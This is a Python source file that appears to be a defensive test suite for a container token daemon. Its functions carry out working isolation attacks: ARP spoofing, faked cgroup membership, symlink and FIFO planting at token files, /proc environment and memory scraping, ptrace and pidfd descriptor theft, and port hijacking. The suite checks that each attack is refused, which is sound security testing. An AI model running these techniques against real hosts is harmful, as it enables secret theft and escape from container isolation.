# SPDX-License-Identifier: GPL-3.0-or-later
"""Around the API: addresses and neighbours on the bridge (T13), containers
and users at a socket (T14), what lies in directories (T10, T18), and the
processes of the host (T22)."""

import ctypes
import os
import re
import socket
import struct
import subprocess
import sys
import threading
import time

from attack import (SECRET, Broken, Succeeded, Answer, ask, attack, control,
                    each, read_all, refused, request, until)

PTRACE_SEIZE = 0x4206
SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 434, 438


def ip(*words):
    """iproute2, of the host's /usr."""
    done = subprocess.run(["/usr/sbin/ip"] + list(words), check=False,
                          capture_output=True)
    if done.returncode != 0:
        raise Broken("ip " + " ".join(words) + ": " + done.stderr.decode())
    return done.stdout.decode()


# --- T13 ---------------------------------------------------------------------
#
# Seen to succeed with: any subnet (outside), no capability needed
# (host_network, arp_spoofing), listening on 0.0.0.0 (other_addresses) and with
# SO_REUSEPORT (take_port).

def own_mac():
    with open("/sys/class/net/eth0/address", encoding="ascii") as file:
        return file.read().strip()


def mac_of(address):
    """Of a neighbour, by asking it for something."""
    try:
        socket.create_connection((address, 9), 2).close()
    except OSError:
        pass
    with open("/proc/net/arp", encoding="ascii") as file:
        for line in file:
            if line.split()[0] == address:
                return line.split()[3]
    raise Broken(f"{address} is not there")


def announce(address, mac):
    """Gratuitous ARP, which takes effect at once: the address is at mac."""
    packed, there = socket.inet_aton(address), bytes.fromhex(
        mac.replace(":", ""))
    frame = b"\xff" * 6 + there + b"\x08\x06" + struct.pack(
        "!HHBBH", 1, 0x0800, 6, 4, 2) + (there + packed) * 2
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind(("eth0", 0))
        raw.send(frame)


def from_address(address, where, data):
    """Bytes sent from that address; None when there was no way."""
    try:
        with socket.create_connection(tuple(where), 3, (address, 0)) as sock:
            sock.sendall(data)
            sock.shutdown(socket.SHUT_WR)
            return read_all(sock)
    except (TimeoutError, ConnectionError):
        return None


@attack("T13", "the address of a neighbour, by ARP spoofing")
def arp_spoofing(world):
    """Needs CAP_NET_ADMIN and CAP_NET_RAW, which the container has."""
    victim = world.neighbour_ip
    mac = mac_of(victim)
    ended = threading.Event()

    def insist():
        while not ended.wait(0.02):
            announce(victim, own_mac())
    ip("address", "add", f"{victim}/32", "dev", "eth0")
    thread = threading.Thread(target=insist)
    thread.start()
    results = []
    try:
        for capability in (None, world.capability()):
            for _ in range(5):
                data = from_address(victim, world.neighbour_tcp, request(
                    "GET", "/token", capability=capability))
                if data is not None:
                    break
            else:
                raise Broken("the bridge does not believe us")
            results.append(refused(Answer(data), "its token"))
    finally:
        ended.set()
        thread.join()
        ip("address", "delete", f"{victim}/32", "dev", "eth0")
        announce(victim, mac)
    return each(results) + ", from its address"


@attack("T13", "the own capability from outside of its subnets")
def outside(world):
    """This container is on another network."""
    answer = ask(world, "tcp", "GET", "/token")
    if answer.status == 0:
        return answer.short()
    raise Succeeded(f"answered: {answer.short()}")


@attack("T13", "listeners of neighbours from the network of the host")
def host_network(world):
    """This container has --network=host: it comes from the gateway."""
    results = [refused(ask(world, world.neighbour_tcp, "GET", "/token",
                           capability=capability))
               for capability in (None, world.capability(), "x" * 65)]
    return each(results)


@attack("T13", "other addresses of the host, and other ports of it")
def other_addresses(world):
    """Only the bound address has the listener; the stand-in and what else
    listens on loopback is not to be had."""
    results = []
    for address in ("127.0.0.1", "10.89.64.254", "169.254.169.254",
                    world.outside_ip):
        try:
            sock = socket.create_connection((address, world.tcp[1]), 2)
        except OSError as fault:
            results.append(type(fault).__name__)
            continue
        with sock:
            sock.sendall(request("GET", "/token", host=address,
                                 capability=None))
            results.append(refused(Answer(read_all(sock))))
    return each(results)


# --- T14 ---------------------------------------------------------------------
#
# Seen to succeed with: no look at the control group (bound_socket,
# faked_cgroup) or at the owner (other_user), the directory of a neighbour
# mounted as well (wander).

def at_socket(world, path, what):
    """The socket of somebody else's grant: nothing may come of it."""
    try:
        answers = [ask(world, path, "GET", target, capability=None)
                   for target in ("/token", "/grant", "/health")]
        answers.append(ask(world, path, "GET", "/token"))
    except (PermissionError, ConnectionError) as fault:
        return type(fault).__name__
    except FileNotFoundError as fault:
        raise Broken("no socket there") from fault
    return each(refused(answer, what) for answer in answers)


@attack("T14", "a socket that is bound to another container")
def bound_socket(world):
    return at_socket(world, world.bound_socket, "what is another's")


@attack("T14", "the same, in a control group named as that container's")
def faked_cgroup(world):
    """Needs CAP_SYS_ADMIN: makes docker-ID.scope and ID below its own."""
    top = "/tmp/cgroup"
    os.makedirs(top, exist_ok=True)
    for kind, options in (("cgroup2", ""), ("cgroup", "pids")):
        done = subprocess.run(
            ["mount", "-t", kind] + (["-o", options] if options else [])
            + ["none", top], check=False, capture_output=True)
        if done.returncode == 0:
            break
    else:
        raise Broken("no cgroup file system: " + done.stderr.decode())
    identity = world.bound_container
    results = []
    for name in (f"docker-{identity}.scope", f"libpod-{identity}.scope",
                 identity, f"docker/{identity}"):
        path = f"{top}/{name}"
        os.makedirs(path, exist_ok=True)
        child = os.fork()
        if child == 0:
            status = 3
            try:
                with open(f"{path}/cgroup.procs", "w",
                          encoding="ascii") as file:
                    file.write("0")
                with open("/proc/self/cgroup", encoding="ascii") as file:
                    status = 0 if name in file.read() else 3
                if status == 0:
                    at_socket(world, world.bound_socket, "by a name")
            except Succeeded:
                status = 1
            except Exception:               # pylint: disable=broad-except
                status = 4
            os._exit(status)
        status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
        if status == 1:
            raise Succeeded(f"as {name}")
        if status != 0:
            raise Broken(f"not into {name}: {status}")
        results.append(name.replace(identity, "ID"))
    return "refused as " + each(results)


@attack("T14", "a socket that is for another user id")
def other_user(world):
    return at_socket(world, world.owned_socket, "what is another user's")


@attack("T14", "a way from our socket to those of neighbours")
def wander(world):
    found = []
    own = os.path.dirname(world.unix)
    for base in (own, f"{own}/..", "/proc/1/root/run", "/run"):
        for top, _, names in os.walk(base):
            found += [f"{top}/{n}" for n in names if n.endswith(".sock")]
    other = {os.path.realpath(p) for p in found} - {
        os.path.realpath(world.unix)}
    other -= {os.path.realpath(p) for p in world.known_sockets}
    if other:
        raise Succeeded(f"sockets: {sorted(other)}")
    abstract = []
    with open("/proc/net/unix", encoding="ascii") as file:
        abstract = [line.split()[-1] for line in file if "@" in line]
    if any("coco" in name for name in abstract):
        raise Succeeded("an abstract socket of coco's")
    return f"{len(set(found))} sockets, our own"


# --- T10, T8 -----------------------------------------------------------------
#
# Seen to succeed with: a token file that is opened by name with O_TRUNC, and
# no Landlock (plant_token; with a FIFO the daemon hangs), the directory mounted
# writable (change_mounted).

@attack("T10", "change what is mounted read-only: token file and socket")
def change_mounted(world):
    directory = os.path.dirname(world.unix)
    done = []

    def attempt(what, function, *args):
        try:
            function(*args)
        except OSError:
            return
        done.append(what)
    for name in ("token", "tokend.sock", ".token.tmp"):
        path = f"{directory}/{name}"
        attempt(f"unlink {name}", os.unlink, path)
        attempt(f"link {name}", os.symlink, "/etc/passwd", path + ".x")
        attempt(f"rename {name}", os.rename, path, path + ".x")
        attempt(f"chmod {name}", os.chmod, path, 0o777)
        attempt(f"chown {name}", os.chown, path, 12345, 12345)
        attempt(f"mkfifo {name}", os.mkfifo, path + ".x")
    attempt("bind", lambda: socket.socket(socket.AF_UNIX).bind(
        f"{directory}/planted.sock"))
    attempt("chmod", os.chmod, directory, 0o777)
    libc = ctypes.CDLL(None, use_errno=True)
    for flags in (32 | 4096, 32):       # MS_REMOUNT, MS_BIND
        if libc.mount(b"none", directory.encode(), None, flags, None) == 0:
            done.append("remount")
    if done:
        raise Succeeded(", ".join(done))
    return "each is refused"


def plant(path, how, target):
    """Something that is not a regular file at path."""
    try:
        if os.path.isdir(path) and not os.path.islink(path):
            os.rmdir(path)
        else:
            os.unlink(path)
    except FileNotFoundError:
        pass
    if how == "link":
        os.symlink(target, path)
    elif how == "directory":
        os.mkdir(path)
    elif how == "fifo":
        os.mkfifo(path, 0o666)


@attack("T10", "links, FIFOs, directories at the names of a token file that "
        "is mounted writable")
def plant_token(world):
    """The host then has the daemon write, and looks what came of it."""
    if not os.access(world.writable, os.W_OK):
        raise Broken("the directory is not writable")
    # links are resolved where the daemon is: these are paths of the host
    targets = {"link": world.victim, "missing": world.victim + ".new",
               "magic": "/proc/self/root" + world.victim}
    results = []
    for one in world.plant:
        how, name = one.split(":")
        plant(f"{world.writable}/{name}", "link" if how in targets else how,
              targets.get(how))
        results.append(f"{how} at {name}")
    return each(results)


def token_file(world):
    try:
        return read_some(f"{os.path.dirname(world.unix)}/token")
    except FileNotFoundError:
        return b""


@attack("T10", "the token file after the end of the grant, which came while "
        "no daemon ran")
def left_over(world):
    """The daemon was killed, and started again later."""
    if token_file(world):
        raise Succeeded("the token is still there")
    return "there is none"


@attack("T15", "a token file of a role that was taken away while its token "
        "was on the way")
def taken_away(world):
    """The grant had another first role some seconds ago."""
    own = ask(world, "unix", "GET", "/token").secret()
    if own is None:
        raise Broken("no token of our own")
    seen = set()

    def is_other():
        seen.add(token_file(world))
        return bool(seen - {b"", own.encode()})
    if until(12, is_other, 0.1):
        raise Succeeded("a token of the role before")
    return f"{len(seen)} contents, none is of the role before"


# --- T18, T22 ----------------------------------------------------------------
#
# Seen to succeed with: another file with the token (files_inside), a secret in
# the environment (look_around), programs that can be read (children), and with
# PR_SET_DUMPABLE 1 as well (daemon_files, daemon_ptrace).

def read_some(path, size=1 << 20):
    with open(path, "rb", buffering=0) as file:
        return file.read(size) or b""


@attack("T18", "arguments and environments of all processes that we see")
def look_around(world):
    seen = 0
    wanted = re.compile(rb"canary|coco_[0-9a-f]{16}_", re.I)
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "cmdline"):
            try:
                data = read_some(f"/proc/{pid}/{name}")
            except OSError:
                continue
            seen += 1
            if wanted.search(data):
                raise Succeeded(f"a secret in {name} of process {pid}")
    if seen < 2:
        raise Broken("no process is seen")
    return f"{seen} are read, none has a secret"


@attack("T18", "files that the sandbox sees: no secret but its own token")
def files_inside(world):
    own = set()
    for name in world.capabilities:
        own.add(world.capability(name).encode())
    seen = 0
    for base in ("/run", "/etc", "/tmp", "/root", "/var", "/dev/shm"):
        for top, _, names in os.walk(base):
            for name in names:
                path = f"{top}/{name}"
                if not os.path.isfile(path):
                    continue
                data = read_some(path)
                seen += 1
                if path == f"{os.path.dirname(world.unix)}/token":
                    continue
                for text in own:
                    data = data.replace(text, b"")
                if SECRET.search(data):
                    raise Succeeded(f"a secret in {path}")
    return f"{seen} files"


def daemon(world):
    """The pid of coco-tokend, as this container with --pid=host sees it.  A
    process like it, but dumpable, can be read: nothing else is in the way."""
    try:
        if not read_some(f"/proc/{world.dumpable}/environ"):
            raise Broken("the other process has no environment")
    except OSError as fault:
        raise Broken(f"no process of the host can be read: {fault}") from fault
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            name = read_some(f"/proc/{pid}/comm").strip()
        except OSError:
            continue
        if name == b"coco-tokend" and pid == str(world.daemon):
            return int(pid)
    raise Broken("no coco-tokend is seen: not --pid=host")


@attack("T22", "look into the daemon, with the host's process ids")
def daemon_files(world):
    pid = daemon(world)
    got, refusals = [], 0
    for name in ("mem", "maps", "environ", "auxv", "syscall", "stack",
                 "pagemap", "root/etc/hostname", "cwd", "exe", "fd",
                 "map_files", "io", "smaps", "personality", "task"):
        path = f"/proc/{pid}/{name}"
        try:
            if name == "task":
                for task in os.listdir(path):
                    read_some(f"{path}/{task}/environ")
                got.append("environ of a task")
            elif name in ("fd", "map_files"):
                for one in os.listdir(path):
                    os.readlink(f"{path}/{one}")
                    got.append(f"{name}/{one}")
            elif name in ("cwd", "exe"):
                os.readlink(path)
                got.append(name)
            elif read_some(path, 4096):
                got.append(name)
        except OSError:
            refusals += 1
    if got:
        raise Succeeded("read: " + ", ".join(got)[:200])
    return f"{refusals} files, none can be read"


@attack("T22", "ptrace, process_vm_readv and pidfd_getfd at the daemon")
def daemon_ptrace(world):
    pid = daemon(world)
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    got = []
    if libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0:
        got.append("ptrace")
    fd = libc.syscall(SYS_PIDFD_OPEN, pid, 0)
    if fd >= 0:
        for number in range(20):
            if libc.syscall(SYS_PIDFD_GETFD, fd, number, 0) >= 0:
                got.append(f"descriptor {number}")
    buffer = ctypes.create_string_buffer(64)
    vec = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)
    for address in (0x400000, 0x555555554000, 0x7ffff7dd0000):
        far = (ctypes.c_void_p * 2)(address, 64)
        done = libc.process_vm_readv(pid, vec, 1, far, 1, 0)
        if done > 0:
            got.append("process_vm_readv")
        elif ctypes.get_errno() == 14:      # EFAULT: it may, but not there
            got.append("process_vm_readv, by its errno")
    if got:
        raise Succeeded(", ".join(got))
    return "each is refused"


def memory(pid):
    """Open what tells of its memory, if that can be done.  An exec makes a
    process dumpable until it says otherwise, and what was opened by then can
    be read for good."""
    opened = []
    try:
        for name in ("maps", "mem"):
            opened.append(open(f"/proc/{pid}/{name}", "rb", buffering=0))
    except PermissionError:
        for file in opened:
            file.close()
        return None
    return opened


def newest():
    """The process id that was given out last."""
    return int(read_some("/proc/loadavg").split()[-1])


def search_memory(maps, mem):
    """Whether a secret is in what it can write to."""
    try:
        maps.seek(0)
        text = maps.read(1 << 20) or b""
    except OSError:
        return False
    for line in text.decode().splitlines():
        span, mode = line.split()[:2]
        if "w" not in mode:
            continue
        start, end = (int(part, 16) for part in span.split("-"))
        try:
            mem.seek(start)
            if SECRET.search(mem.read(min(end - start, 1 << 20)) or b""):
                return True
        except (OSError, ValueError):
            continue
    return False


@attack("T22", "children of the daemon while they hold a refresh token")
def children(world):
    """A process that runs for a tenth of a second is met often enough."""
    daemon(world)
    with open(f"{world.shared}/children.held", "w", encoding="ascii") as file:
        file.write("yes\n")
    seen, kept, recent, last = set(), {}, set(), newest()
    end = time.monotonic() + 30
    while time.monotonic() < end and \
            not os.path.exists(f"{world.shared}/children.go"):
        upto = newest()
        recent.update(range(last + 1, upto + 1))
        last = upto
        for pid in sorted(recent):
            try:
                if read_some(f"/proc/{pid}/comm").startswith(b"coco-"):
                    seen.add(pid)
                    kept.setdefault(pid, memory(pid))
                    if kept[pid] is None:
                        del kept[pid]
                    if SECRET.search(read_some(f"/proc/{pid}/cmdline")):
                        raise Succeeded("a secret in its arguments")
            except OSError:
                recent.discard(pid)     # it is gone
        for files in kept.values():
            if search_memory(*files):
                raise Succeeded("a secret in the memory of a child")
    if len(seen) < 5:
        raise Broken(f"{len(seen)} processes were seen")
    return f"{len(seen)} processes, {len(kept)} opened, no secret read"


@attack("T13", "stand in for the daemon at our own listener's address")
def take_port(world):
    """This container has --network=host: the port must be taken."""
    with socket.socket() as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        try:
            sock.bind(tuple(world.tcp))
            sock.listen(1)
        except OSError as fault:
            control(world)
            return type(fault).__name__ + f" {fault.errno}"
    raise Succeeded("two servers on one port")


if sys.version_info < (3, 9):
    sys.exit("python 3.9 or later")
